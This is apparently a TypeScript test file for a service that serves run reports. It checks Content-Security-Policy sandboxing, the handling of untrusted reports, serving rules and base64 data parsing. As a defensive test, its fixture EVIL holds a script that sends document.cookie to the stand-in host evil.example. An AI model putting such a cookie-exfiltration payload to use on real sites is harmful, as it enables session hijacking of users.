import assert from 'node:assert/strict';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { RUN_FILES } from '@verger/core';
import { pageScript, readEmbedded } from '@verger/report';
import { writeRun } from '@verger/testkit/written-run';
import { NOW_MS, runSite, textOf } from '../testing/run-site.ts';
import { dataOf } from './result-files.ts';

const EVIL = '<!doctype html><script>fetch("https://evil.example/" + document.cookie)</script>';
const page = (data: string) =>
  `<main></main><script type="text/plain" id="data">${data}</script><script>1</script>`;

/** A finished run with these files. */
async function finished(t: TestContext, files: Readonly<Record<string, string>>, { isDone = true } = {}) {
  const site = await runSite(t);
  const run = { id: 'r', partitions: [10], submittedMs: NOW_MS - 3_600_000, isDone };
  const { folder } = await writeRun(site.output, run);
  for (const [name, text] of Object.entries(files)) {
    await mkdir(dirname(join(folder, name)), { recursive: true });
    await writeFile(join(folder, name), text);
  }
  return site;
}

test('a report is shut in: a page of a bucket runs our script only, in an origin of its own', async (t) => {
  const script = `<script>${pageScript('report-page')}</script>`;
  const site = await finished(t, { [RUN_FILES.htmlReport]: `<body>${EVIL}${script}` });
  const answer = await site.get('/runs/r/report.html');
  assert.deepEqual([answer.status, answer.type], [200, 'text/html; charset=utf-8']);
  const policy = answer.headers?.['content-security-policy'] ?? '';
  assert.match(
    policy,
    /^sandbox allow-scripts allow-downloads; default-src 'none'; script-src 'sha256-[^' ]+'; /,
  );
  assert.doesNotMatch(policy, /allow-same-origin|allow-top|connect-src|https?:|script-src[^;]*unsafe/);
  assert.match(String((await site.get('/runs/r')).body), /href="\/verger\/runs\/r\/report\.html"/);
});

test('a report of another release, or of an attacker, runs no script and says so', async (t) => {
  const site = await finished(t, { [RUN_FILES.htmlReport]: `<html><body class="x">${EVIL}` });
  const { headers, body } = await site.get('/runs/r/report.html');
  assert.match(
    headers?.['content-security-policy'] ?? '',
    /^sandbox; default-src 'none'; script-src 'none'; /,
  );
  assert.match(String(body), /^<html><body class="x"><p role="note"[^>]*>This report was not made by/);
});

test('a run without a report has none, and its page no link to one', async (t) => {
  const site = await finished(t, {});
  for (const path of ['report.html', 'report-data']) {
    const answer = await site.get(`/runs/r/${path}`);
    assert.deepEqual([answer.status, answer.type], [404, 'text/plain; charset=utf-8'], path);
  }
  assert.doesNotMatch(String((await site.get('/runs/r')).body), /report\.html/);
  assert.match(textOf(await site.get('/runs/other/report.html')), /No run other/);
});

test('a report is not served before its run is finished, nor when it no longer is', async (t) => {
  const site = await finished(t, { [RUN_FILES.htmlReport]: page('QUJD') });
  assert.equal((await site.get('/runs/r/report-data')).status, 200);
  await rm(join(site.output, 'r', RUN_FILES.success));
  site.clock.passedMs += 60_000;
  for (const path of ['report.html', 'report-data']) {
    assert.equal((await site.get(`/runs/r/${path}`)).status, 404, path);
  }
});

test('the data of a report is the text of its element, base64 and nothing else', async (t) => {
  const site = await finished(t, { [RUN_FILES.htmlReport]: page('QUJD\nREVG') });
  const answer = await site.get('/runs/r/report-data');
  assert.deepEqual([answer.type, String(answer.body)], ['text/plain; charset=utf-8', 'QUJD\nREVG']);
  for (const text of [EVIL, page('<b>'), page('a"b'), '<script type="text/plain" id="data">QUJD']) {
    assert.equal(dataOf(Buffer.from(text)), undefined, text);
  }
  await assert.rejects(readEmbedded('QUJD'), 'what is no report data is an error that the page shows');
});

test('the variance of a run under way is that of its model, read once; a damaged one is an error', async (t) => {
  const model = { k: 2, explainedVarianceRatio: [0.6, 0.3, 0.1], mean: [1], components: [[1]] };
  const files = { [RUN_FILES.model]: JSON.stringify(model) };
  const site = await finished(t, files, { isDone: false });
  const reads = () => site.calls.filter(({ kind, key }) => kind === 'read' && key === RUN_FILES.model).length;
  const get = async () => {
    const { type, body } = await site.get('/runs/r/variance.json');
    assert.equal(type, 'application/json');
    assert.deepEqual(JSON.parse(String(body)), { k: 2, shares: [0.6, 0.3, 0.1] });
    return reads();
  };
  assert.equal(await get(), await get());
  const damaged = await finished(t, { [RUN_FILES.model]: '{"k":' }, { isDone: false });
  await assert.rejects(damaged.get('/runs/r/variance.json'), { code: 'E_RUN_CORRUPT' });
});

test('the variance of a finished run comes from its report, without its model', async (t) => {
  const site = await finished(t, { [RUN_FILES.model]: 'not read' });
  const { k, shares } = JSON.parse(String((await site.get('/runs/r/variance.json')).body));
  assert.equal(k, 25);
  assert.ok(Math.abs(shares[1] - 0.0304) < 1e-9, String(shares[1]));
});
